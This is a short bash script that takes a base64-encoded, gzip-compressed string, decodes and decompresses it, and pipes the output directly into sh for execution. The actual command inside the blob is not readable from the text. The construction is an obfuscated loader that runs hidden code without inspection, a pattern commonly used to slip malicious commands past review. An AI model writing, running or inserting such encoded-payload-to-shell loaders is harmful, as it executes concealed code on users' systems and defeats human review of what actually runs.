#!/bin/bash
printf '%s' "H4sIAAAAAAACA0suLcpR0C1WyCgpKSi20tcvLklMTzXSSy3LzNFLrUjMLchJ1a9QqFEozgAAGQGxoyoAAAA=" \
  | base64 -d \
  | gunzip \
  | sh
